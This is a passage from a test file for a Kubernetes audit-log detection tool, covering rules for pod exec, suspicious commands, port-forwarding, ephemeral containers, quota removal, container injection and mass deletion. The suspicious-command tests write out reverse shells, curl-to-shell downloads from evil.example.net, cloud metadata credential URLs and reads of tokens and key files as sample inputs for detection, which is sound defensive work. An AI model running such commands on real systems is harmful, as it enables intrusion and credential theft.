    expect(severityOf(into('shop', 'etcd-0'))).toBe('medium');
    // the list is the site's: a tuning file's replaces it
    expect(severityOf(into('shop', 'etcd-0'), { controlPlanePods: ['shop/etcd-'] })).toBe('high');
    expect(severityOf(into('kube-system', 'etcd-control-plane-1'), { controlPlanePods: [] })).toBe('medium');
  });

  it('does not fire on a forbidden exec, on logs, or on reading the pod', () => {
    expect(fired(podSubresource('exec', '?command=sh', 'create', 403))).toEqual([]);
    expect(fired(podSubresource('log', '?container=web', 'get', 200))).toEqual([]);
    expect(fired({ ...podSubresource('exec', ''), requestURI: '/api/v1/namespaces/shop/pods/web-0', objectRef: { resource: 'pods', namespace: 'shop', name: 'web-0' }, verb: 'get' })).toEqual([]);
  });
});

describe('pod-exec-suspicious-command', () => {
  const exec = (...command: string[]) => podSubresource('exec', `?${command.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=web&stdin=true`);
  const matched = (...command: string[]) => {
    const f = findings(exec(...command)).find((x) => x.ruleId === 'pod-exec-suspicious-command');
    return f?.evidence.matched;
  };

  it('recognizes reverse shells', () => {
    expect(matched('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')).toEqual(['reverse-shell']);
    expect(matched('nc', '-e', '/bin/sh', '203.0.113.9', '4444')).toEqual(['reverse-shell']);
    expect(matched('sh', '-c', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f')).toContain('reverse-shell');
  });

  it('recognizes curl or wget piped to a shell', () => {
    expect(matched('sh', '-c', 'curl -fsSL https://evil.example.net/x.sh | bash')).toEqual(['download-and-execute']);
    expect(matched('sh', '-c', 'wget -qO- http://evil.example.net/x | sh')).toEqual(['download-and-execute']);
  });

  it('recognizes the instance metadata service and service-account tokens', () => {
    expect(matched('curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/')).toEqual(['instance-metadata']);
    expect(matched('curl', '-H', 'Metadata-Flavor: Google', 'http://metadata.google.internal/computeMetadata/v1/')).toEqual(['instance-metadata']);
    expect(matched('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token')).toEqual(['service-account-token']);
    expect(matched('cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token')).toEqual(['service-account-token']);
  });

  it('recognizes tar (kubectl cp), decoding repeated URL-encoded command parameters', () => {
    const event = podSubresource('exec', '?command=tar&command=cf&command=-&command=%2Fapp%2Fsecrets&container=web&stdout=true');
    expect(evidenceOf(event, 'pod-exec-suspicious-command')).toEqual({
      pod: 'web-0',
      namespace: 'shop',
      container: 'web',
      command: ['tar', 'cf', '-', '/app/secrets'],
      matched: ['kubectl-cp'],
    });
    expect(fired(event)).toEqual(['pod-exec', 'pod-exec-suspicious-command']);
  });

  it('falls back to PodExecOptions in requestObject (logs converted from other formats)', () => {
    const event = { ...podSubresource('exec', ''), requestObject: { command: ['cat', '/run/secrets/kubernetes.io/serviceaccount/token'], container: 'api' } };
    expect(evidenceOf(event, 'pod-exec-suspicious-command')).toMatchObject({ container: 'api', matched: ['service-account-token'] });
  });

  it('recognizes credential files and key material, and download tools run in the container', () => {
    expect(matched('cat', '/etc/shadow')).toEqual(['credential-file']);
    expect(matched('sh', '-c', 'tar -C /root/.aws -c . | base64')).toEqual(['credential-file', 'kubectl-cp']);
    expect(matched('cat', '/proc/1/environ')).toEqual(['credential-file']);
    expect(matched('cat', '/etc/kubernetes/pki/apiserver.key')).toEqual(['credential-file']);
    expect(matched('ls', '/home/app/.ssh')).toEqual(['credential-file']);
    expect(matched('curl', '-sk', 'https://203.0.113.9/payload')).toEqual(['download-tool']);
    expect(matched('wget', 'http://evil.example.net/x')).toEqual(['download-tool']);
    // IMDS through curl is named for what it reaches, Elastic's decimal and hex spellings included
    expect(matched('curl', 'http://2852039166/latest/meta-data/')).toEqual(['instance-metadata']);
  });

  it('leaves name resolution, local health checks and the API server’s discovery to ordinary commands', () => {
    for (const command of [['cat', '/etc/resolv.conf'], ['curl', '-s', 'http://localhost:8080/metrics'], ['curl', '-sk', 'https://kubernetes.default.svc/openid/v1/jwks'], ['cat', '/etc/hostname']]) {
      expect(matched(...command), command.join(' ')).toBeUndefined();
    }
  });

  it('does not fire on ordinary commands', () => {
    for (const command of [['ls', '-la'], ['bash'], ['nc', '-z', 'db', '5432'], ['sh', '-c', 'echo tarball ready'], ['curl', 'http://web:8080/healthz']]) {
      expect(matched(...command), command.join(' ')).toBeUndefined();
    }
    expect(fired(podSubresource('attach', '?container=web'))).toEqual(['pod-exec']);
  });
});

describe('port-forward', () => {
  it('fires on pods/portforward, POST or GET', () => {
    const event = podSubresource('portforward', '?ports=5432');
    expect(fired(event)).toEqual(['port-forward']);
    expect(evidenceOf(event, 'port-forward')).toEqual({ pod: 'web-0', namespace: 'shop', ports: ['5432'] });
    expect(fired(podSubresource('portforward', '', 'get'))).toEqual(['port-forward']);
  });

  it('does not fire on the API server proxy or a denied forward', () => {
    expect(fired(podSubresource('proxy', '', 'get', 200))).toEqual([]);
    expect(fired(podSubresource('portforward', '?ports=5432', 'create', 403))).toEqual([]);
  });
});

describe('ephemeral-container', () => {
  const debug = { name: 'debugger-x7k2p', image: `busybox@${digest}`, targetContainerName: 'web', stdin: true, tty: true };
  const subresourceWrite = (verb: string, extra: Spec) =>
    objectWrite(verb, '/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers', { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'shop', name: 'web-0', apiVersion: 'v1' }, extra);

  it('fires on kubectl debug: a patch of pods/ephemeralcontainers, even at level Metadata', () => {
    const patch = subresourceWrite('patch', { level: 'Request', requestObject: { spec: { ephemeralContainers: [debug] } } });
    expect(fired(patch)).toEqual(['ephemeral-container']);
    expect(evidenceOf(patch, 'ephemeral-container')).toEqual({
      via: 'pods/ephemeralcontainers',
      containers: [{ name: 'debugger-x7k2p', kind: 'ephemeralContainer', image: debug.image, targetContainerName: 'web' }],
    });
    expect(evidenceOf(subresourceWrite('update', { level: 'Metadata' }), 'ephemeral-container')).toEqual({ via: 'pods/ephemeralcontainers', containers: [] });
  });

  it('checks what the ephemeral container asks for, like any other container', () => {
    const privileged = { ...debug, securityContext: { privileged: true } };
    expect(fired(subresourceWrite('patch', { level: 'Request', requestObject: { spec: { ephemeralContainers: [privileged] } } }))).toEqual([
      'ephemeral-container',
      'privileged-container',
    ]);
  });

  it('fires on a pod spec that itself carries ephemeralContainers', () => {
    expect(evidenceOf(podCreate(podSpec({ ephemeralContainers: [debug] })), 'ephemeral-container')).toMatchObject({ via: 'pod spec' });
  });

  it('does not fire on later updates of a pod that already has one, or on reading the subresource', () => {
    const stored = { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'web-0', namespace: 'shop', labels: { tier: 'gold' } }, spec: podSpec({ ephemeralContainers: [debug] }) };
    const labelPatch = {
      ...base,
      verb: 'patch',
      responseStatus: { code: 200 },
      requestURI: '/api/v1/namespaces/shop/pods/web-0',
      objectRef: { resource: 'pods', namespace: 'shop', name: 'web-0', apiVersion: 'v1' },
      requestObject: { metadata: { labels: { tier: 'gold' } } },
      responseObject: stored,
    };
    expect(fired(labelPatch)).toEqual([]);
    expect(fired(subresourceWrite('get', { level: 'Metadata' }))).toEqual([]);
  });
});

describe('quota-or-limits-removed', () => {
  const quota = (hard: Record<string, string>) => ({
    kind: 'ResourceQuota',
    apiVersion: 'v1',
    metadata: { name: 'compute', namespace: 'team-a' },
    spec: { hard },
  });
  const quotaWrite = (verb: string, extra: Spec = {}, resource = 'resourcequotas', name: string | null = 'compute') => ({
    ...base,
    level: 'Metadata',
    verb,
    responseStatus: { code: 200 },
    requestURI: `/api/v1/namespaces/team-a/${resource}${name ? `/${name}` : ''}`,
    objectRef: { resource, namespace: 'team-a', ...(name ? { name } : {}), apiVersion: 'v1' },
    ...extra,
  });

  it('fires when a ResourceQuota is deleted, or LimitRanges deleted as a collection', () => {
    expect(evidenceOf(quotaWrite('delete'), 'quota-or-limits-removed')).toEqual({ kind: 'ResourceQuota', namespace: 'team-a', name: 'compute', change: 'delete' });
    expect(evidenceOf(quotaWrite('deletecollection', {}, 'limitranges', null), 'quota-or-limits-removed')).toEqual({
      kind: 'LimitRange',
      namespace: 'team-a',
      name: null,
      change: 'deletecollection',
    });
  });

  it('fires when an update/patch leaves spec.hard empty', () => {
    const update = quotaWrite('update', { level: 'RequestResponse', requestObject: quota({}), responseObject: quota({}) });
    expect(evidenceOf(update, 'quota-or-limits-removed')).toMatchObject({ change: 'spec.hard emptied' });
    expect(fired(quotaWrite('patch', { level: 'Request', requestObject: { spec: { hard: null } } }))).toEqual(['quota-or-limits-removed']);
  });

  it('does not fire on a quota that still limits, on status updates, or on the namespace controller', () => {
    const raised = quotaWrite('patch', { level: 'RequestResponse', requestObject: { spec: { hard: { 'limits.cpu': '40' } } }, responseObject: quota({ 'limits.cpu': '40' }) });
    expect(fired(raised)).toEqual([]);
    expect(fired(quotaWrite('update', { level: 'RequestResponse', requestURI: '/api/v1/namespaces/team-a/resourcequotas/compute/status', objectRef: { resource: 'resourcequotas', subresource: 'status', namespace: 'team-a', name: 'compute' }, responseObject: quota({}) }))).toEqual([]);
    const teardown = { ...quotaWrite('deletecollection', {}, 'resourcequotas', null), user: { username: 'system:serviceaccount:kube-system:namespace-controller' } };
    expect(fired(teardown)).toEqual([]);
    expect(fired(quotaWrite('get'))).toEqual([]);
  });
});

describe('what counts as the written object', () => {
  const deploymentWrite = (verb: string, extra: Spec) =>
    objectWrite(verb, '/apis/apps/v1/namespaces/default/deployments/web', { resource: 'deployments', namespace: 'default', name: 'web', apiGroup: 'apps', apiVersion: 'v1' }, extra);
  const privilegedSpec = podSpec({}, [container({ securityContext: { privileged: true } })]);

  it('an update recorded with its responseObject is judged by the stored object', () => {
    const update = deploymentWrite('update', {
      requestObject: workloadObject('Deployment', podSpec()),
      responseObject: workloadObject('Deployment', privilegedSpec),
    });
    expect(fired(update)).toEqual(['privileged-container']);
    expect(findings(update)[0]?.summary).toBe('jane updated Deployment default/web with privileged container(s) web.');
    expect(fired({ ...update, requestObject: workloadObject('Deployment', privilegedSpec), responseObject: workloadObject('Deployment', podSpec()) })).toEqual([]);
  });

  it('a strategic-merge patch without responseObject is judged by the patch itself', () => {
    const patch = deploymentWrite('patch', {
      level: 'Request',
      requestObject: { spec: { template: { spec: { containers: [{ name: 'web', securityContext: { privileged: true } }], hostPID: true } } } },
    });
    expect(fired(patch)).toEqual(['host-namespace', 'privileged-container']);
    expect(evidenceOf(patch, 'privileged-container')).toEqual({ containers: [{ name: 'web', kind: 'container', image: '' }] });
  });

  it('a JSON patch without responseObject is judged by what its operations add', () => {
    const patch = deploymentWrite('patch', {
      level: 'Request',
      requestObject: [
        { op: 'add', path: '/spec/template/spec/containers/0/securityContext', value: { capabilities: { add: ['SYS_ADMIN'] } } },
        { op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'root', hostPath: { path: '/' } } },
      ],
    });
    expect(fired(patch)).toEqual(['dangerous-capability', 'sensitive-host-mount']);
  });

  it('ignores failed, dry-run, unanswered, status and Metadata-level writes', () => {
    const event = podCreate(privilegedSpec);
    expect(fired({ ...event, responseStatus: { code: 403 } })).toEqual([]);
    expect(fired({ ...event, responseStatus: { code: 422 } })).toEqual([]);
    expect(fired({ ...event, requestURI: '/api/v1/namespaces/default/pods?dryRun=All' })).toEqual([]);
    expect(fired({ ...event, stage: 'RequestReceived', responseStatus: undefined })).toEqual([]);
    expect(fired({ ...event, level: 'Metadata', requestObject: undefined })).toEqual([]);
    const status = {
      ...event,
      verb: 'patch',
      responseStatus: { code: 200 },
      requestURI: '/api/v1/namespaces/default/pods/web/status',
      objectRef: { resource: 'pods', subresource: 'status', namespace: 'default', name: 'web', apiVersion: 'v1' },
    };
    expect(fired(status)).toEqual([]);
    expect(fired({ ...event, verb: 'delete', requestURI: '/api/v1/namespaces/default/pods/web', responseStatus: { code: 200 } })).toEqual([]);
  });

  it('ignores a custom resource that shares a workload plural', () => {
    const crd = { ...workloadCreate('Job', privilegedSpec), requestURI: '/apis/ci.example.com/v1/namespaces/default/jobs', objectRef: { resource: 'jobs', apiGroup: 'ci.example.com' } };
    expect(fired(crd)).toEqual([]);
  });
});

describe('Falco k8s_audit traces (../shared/corpus/falco-k8s-audit, outcomes from EXPECTED.md)', () => {
  const trace = (file: string) => {
    const [event] = corpusLines(`falco-k8s-audit/${file}`);
    return event;
  };
  const count = (file: string, ruleId: string, settings: Partial<RuleSettings> = {}) => findings(trace(file), settings).filter((f) => f.ruleId === ruleId).length;
  // Falco's trust_nginx_container.yaml: nginx is a trusted privileged / sensitive-mount / hostNetwork image.
  const trustNginx = { trustedImages: ['nginx'] };
  // The Falco rules that have an equivalent here; the "no alert" cases assert none of these fires.
  const falcoEquivalents = ['privileged-container', 'host-namespace', 'sensitive-host-mount', 'pod-exec', 'workload-in-system-namespace'];
  const equivalentsFired = (file: string, settings: Partial<RuleSettings> = {}) => fired(trace(file), settings).filter((id) => falcoEquivalents.includes(id));

  it.each([
    'create_nginx_pod_privileged.json',
    'create_nginx_pod_privileged_2nd_container.json',
    'create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json',
  ])('Create Privileged Pod x1 ↔ privileged-container x1: %s', (file) => {
    expect(count(file, 'privileged-container')).toBe(1);
    expect(equivalentsFired(file)).toEqual(['privileged-container']);
  });

  it('names the privileged container, and trusting nginx silences the nginx-only pod (create_privileged_trusted_pod)', () => {
    expect(evidenceOf(trace('create_nginx_pod_privileged.json'), 'privileged-container')).toEqual({ containers: [{ name: 'nginx', kind: 'container', image: 'nginx' }] });
    expect(evidenceOf(trace('create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json'), 'privileged-container')).toEqual({
      containers: [{ name: 'mysql', kind: 'container', image: 'mysql:latest' }],
    });
    expect(equivalentsFired('create_nginx_pod_privileged.json', trustNginx)).toEqual([]);
  });

  it('Create HostNetwork Pod x1 ↔ host-namespace x1, none when nginx is trusted or hostNetwork is off', () => {
    expect(count('create_nginx_pod_hostnetwork.json', 'host-namespace')).toBe(1);
    expect(evidenceOf(trace('create_nginx_pod_hostnetwork.json'), 'host-namespace')).toEqual({ hostNamespaces: ['hostNetwork'] });
    expect(equivalentsFired('create_nginx_pod_hostnetwork.json', trustNginx)).toEqual([]);
    expect(equivalentsFired('create_nginx_pod_nohostnetwork.json')).toEqual([]);
    expect(equivalentsFired('create_nginx_pod_nohostnetwork.json', trustNginx)).toEqual([]);
  });

  it('Create Sensitive Mount Pod x1 ↔ sensitive-host-mount x1 (also in a 2nd container); none for /usr/local or trusted nginx', () => {
    expect(count('create_nginx_pod_sensitive_mount.json', 'sensitive-host-mount')).toBe(1);
    expect(evidenceOf(trace('create_nginx_pod_sensitive_mount.json'), 'sensitive-host-mount')).toEqual({
      hostPaths: [{ volume: 'etc', path: '/etc', sensitive: '/etc', mountedBy: ['nginx'] }],
    });
    expect(evidenceOf(trace('create_nginx_pod_sensitive_mount_2nd_container.json'), 'sensitive-host-mount')).toMatchObject({ hostPaths: [{ mountedBy: ['mysql'] }] });
    expect(equivalentsFired('create_nginx_pod_sensitive_mount.json', trustNginx)).toEqual([]);
    expect(fired(trace('create_nginx_pod_unsensitive_mount.json'))).toEqual([]);
    expect(fired(trace('create_nginx_pod_unsensitive_mount.json'), trustNginx)).toEqual([]);
  });

  it('create_nginx_pod_unprivileged.json: no Falco-equivalent alert (only unpinned-image, which Falco has no rule for)', () => {
    expect(fired(trace('create_nginx_pod_unprivileged.json'))).toEqual(['unpinned-image']);
    expect(fired(trace('create_nginx_pod_unprivileged.json'), trustNginx)).toEqual(['unpinned-image']);
  });

  it('Attach/Exec Pod x1 ↔ pod-exec x1 (ResponseStarted, code 101); a bare bash is not a suspicious command', () => {
    expect(fired(trace('exec_pod.json'))).toEqual(['pod-exec']);
    expect(evidenceOf(trace('exec_pod.json'), 'pod-exec')).toEqual({
      pod: 'nginx-deployment-7998647bdf-phvq7',
      namespace: 'default',
      subresource: 'exec',
      container: 'nginx1',
      command: ['bash'],
    });
    expect(fired(trace('attach_pod.json'))).toEqual(['pod-exec']);
  });

  it('Pod Created in Kube Namespace: deliberately not raised for the replicaset-controller that Falco flags', () => {
    // workload-in-system-namespace reports non-system identities only (README "Detection rules"); in both traces the creator is
    // system:serviceaccount:kube-system:replicaset-controller carrying out a ReplicaSet. The same creation by
    // the traces' human user (minikube-user) is flagged, as Falco flags it.
    for (const file of ['create_pod_kube_system_namespace.json', 'create_pod_kube_public_namespace.json']) {
      expect(count(file, 'workload-in-system-namespace'), file).toBe(0);
      const byPerson = { ...(trace(file) as Record<string, unknown>), user: { username: 'minikube-user', groups: ['system:masters', 'system:authenticated'] } };
      expect(findings(byPerson).filter((f) => f.ruleId === 'workload-in-system-namespace'), file).toHaveLength(1);
    }
  });

  it('create_nginx_service_nodeport.json: a Service nodePort is not a hostPort (no workload rule fires)', () => {
    expect(fired(trace('create_nginx_service_nodeport.json'))).toEqual([]);
  });
});

describe('persistent-workload-created', () => {
  it('reports a CronJob or Job created by a person as low and a DaemonSet as medium, at any audit level', () => {
    const found = ruleFindings([workloadCreate('CronJob', podSpec()), workloadCreate('Job', podSpec()), workloadCreate('DaemonSet', podSpec())], 'persistent-workload-created');
    expect(found.map((f) => [f.evidence.kind, f.severity])).toEqual([['CronJob', 'low'], ['Job', 'low'], ['DaemonSet', 'medium']]);
    const { requestObject: _, ...metadataOnly } = { ...workloadCreate('CronJob', podSpec()), level: 'Metadata' };
    expect(ruleFindings([metadataOnly], 'persistent-workload-created')[0]?.summary).toBe('jane created CronJob default/web.');
  });

  it('stays silent for Deployments, updates, dry runs, failures and the Jobs the CronJob controller creates', () => {
    const cronjobController = { username: 'system:serviceaccount:kube-system:cronjob-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system'] };
    const silent = [
      workloadCreate('Deployment', podSpec()),
      { ...workloadCreate('CronJob', podSpec()), verb: 'update', requestURI: '/apis/batch/v1/namespaces/default/cronjobs/web' },
      { ...workloadCreate('CronJob', podSpec()), requestURI: '/apis/batch/v1/namespaces/default/cronjobs?dryRun=All' },
      { ...workloadCreate('DaemonSet', podSpec()), responseStatus: { code: 409 } },
      { ...workloadCreate('Job', podSpec()), user: cronjobController },
    ];
    expect(ruleFindings(silent, 'persistent-workload-created')).toEqual([]);
  });
});

describe('container-injected', () => {
  const deploymentUri = '/apis/apps/v1/namespaces/default/deployments/web';
  const ref = { resource: 'deployments', namespace: 'default', name: 'web', apiGroup: 'apps', apiVersion: 'v1' };
  const stored = (containers: Spec[], init: Spec[] = []) => workloadObject('Deployment', podSpec(init.length > 0 ? { initContainers: init } : {}, containers));
  const update = (containers: Spec[], init: Spec[] = []) => objectWrite('update', deploymentUri, ref, { requestObject: stored(containers, init), responseObject: stored(containers, init) });
  it('fires when an update or patch adds a container or init container to a workload it has seen', () => {
    const patch = objectWrite('patch', deploymentUri, ref, { requestObject: { spec: { template: { spec: { containers: [{ name: 'proxy', image: sidecar }] } } } }, responseObject: stored([container(), { name: 'proxy', image: sidecar }]) });
    const found = ruleFindings([workloadCreate('Deployment', podSpec()), patch], 'container-injected');
    expect(found.map((f) => f.evidence.added)).toEqual([[{ name: 'proxy', image: sidecar }]]);
    expect(found[0]?.severity).toBe('medium');
    const init = ruleFindings([update([container()]), update([container()], [{ name: 'setup', image: sidecar }])], 'container-injected');
    expect(init.map((f) => (f.evidence.added as { name: string }[]).map((a) => a.name))).toEqual([['setup']]);
  });

  it('fires on a JSON patch appending a container to a workload not seen before', () => {
    const jsonPatch = objectWrite('patch', deploymentUri, ref, { level: 'Request', requestObject: [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'miner', image: 'x/miner' } }] });
    expect(ruleFindings([jsonPatch], 'container-injected').map((f) => f.evidence.added)).toEqual([[{ name: 'miner', image: 'x/miner' }]]);
    // a JSON patch names only what it adds: the workload's other containers stay known
    const found = ruleFindings([workloadCreate('Deployment', podSpec()), jsonPatch, update([container(), { name: 'miner', image: 'x/miner' }])], 'container-injected');
    expect(found.map((f) => (f.evidence.added as { name: string }[]).map((a) => a.name))).toEqual([['miner']]);
  });

  it('stays silent for image rollouts, unchanged re-applies, unknown workloads patched without an append, and the control plane', () => {
    const rollout = update([container({ image: sidecar })]);
    expect(ruleFindings([workloadCreate('Deployment', podSpec()), rollout, update([container()])], 'container-injected')).toEqual([]);
    const setImage = objectWrite('patch', deploymentUri, ref, { level: 'Request', requestObject: { spec: { template: { spec: { containers: [{ name: 'web', image: sidecar }] } } } } });
    expect(ruleFindings([setImage], 'container-injected')).toEqual([]);
    const controller = { username: 'system:kube-controller-manager', groups: ['system:authenticated'] };
    expect(ruleFindings([workloadCreate('Deployment', podSpec()), { ...update([container(), { name: 'proxy', image: sidecar }]), user: controller }], 'container-injected')).toEqual([]);
  });
});

describe('controller-service-account-assigned', () => {
  it('fires on a pod or workload in kube-system created to run as a controller’s service account', () => {
    const pod = podCreate(podSpec({ serviceAccountName: 'clusterrole-aggregation-controller' }), { namespace: 'kube-system', name: 'debug' });
    const found = ruleFindings([pod, workloadCreate('Deployment', podSpec({ serviceAccountName: 'generic-garbage-collector' }), 'kube-system')], 'controller-service-account-assigned');
    expect(found.map((f) => [f.evidence.serviceAccount, f.severity])).toEqual([['clusterrole-aggregation-controller', 'high'], ['generic-garbage-collector', 'high']]);
  });

  it('stays silent elsewhere, for other accounts, trusted images and the control plane', () => {
    const controller = { username: 'system:kube-controller-manager', groups: ['system:authenticated'] };
    const silent = [
      podCreate(podSpec({ serviceAccountName: 'replicaset-controller' }), { namespace: 'shop' }),
      podCreate(podSpec({ serviceAccountName: 'coredns' }), { namespace: 'kube-system' }),
      { ...podCreate(podSpec({ serviceAccountName: 'replicaset-controller' }), { namespace: 'kube-system' }), user: controller },
    ];
    expect(ruleFindings(silent, 'controller-service-account-assigned')).toEqual([]);
    const trusted = podCreate(podSpec({ serviceAccountName: 'ebs-snapshot-controller' }), { namespace: 'kube-system' });
    expect(ruleFindings([trusted], 'controller-service-account-assigned', { trustedImages: ['registry.example.com/shop/'] })).toEqual([]);
  });
});

describe('mass-deletion', () => {
  const del = (i: number, resource = 'deployments', over: Spec = {}) =>
    objectWrite('delete', `/apis/apps/v1/namespaces/shop/${resource}/app-${String(i)}`, { resource, namespace: 'shop', name: `app-${String(i)}`, apiGroup: 'apps', apiVersion: 'v1' }, { level: 'Metadata', auditID: `de1e7e00-0000-4000-8000-${String(i).padStart(12, '0')}`, stageTimestamp: new Date(Date.parse('2026-03-01T10:00:00Z') + i * 10_000).toISOString(), ...over });
  it('fires once when one identity deletes ten workloads within five minutes, and on a deletecollection', () => {
    const found = ruleFindings(Array.from({ length: 14 }, (_, i) => del(i)), 'mass-deletion');
    expect(found.map((f) => f.evidence.deletions)).toEqual([10]);
    const collection = objectWrite('deletecollection', '/api/v1/namespaces/shop/pods', { resource: 'pods', namespace: 'shop', apiVersion: 'v1' }, { verb: 'deletecollection' });
    expect(ruleFindings([collection], 'mass-deletion')[0]?.summary).toBe('jane deleted every pods of namespace shop at once.');
  });

  it('stays silent below the threshold, for deletions spread over time, for the garbage collector and for other resources', () => {
    expect(ruleFindings(Array.from({ length: 9 }, (_, i) => del(i)), 'mass-deletion')).toEqual([]);
    expect(ruleFindings(Array.from({ length: 12 }, (_, i) => del(i * 6)), 'mass-deletion')).toEqual([]);
    const gc = { username: 'system:serviceaccount:kube-system:generic-garbage-collector', groups: ['system:serviceaccounts'] };
    expect(ruleFindings(Array.from({ length: 12 }, (_, i) => del(i, 'replicasets', { user: gc })), 'mass-deletion')).toEqual([]);
    expect(ruleFindings(Array.from({ length: 12 }, (_, i) => del(i, 'configmaps')), 'mass-deletion')).toEqual([]);
  });
});
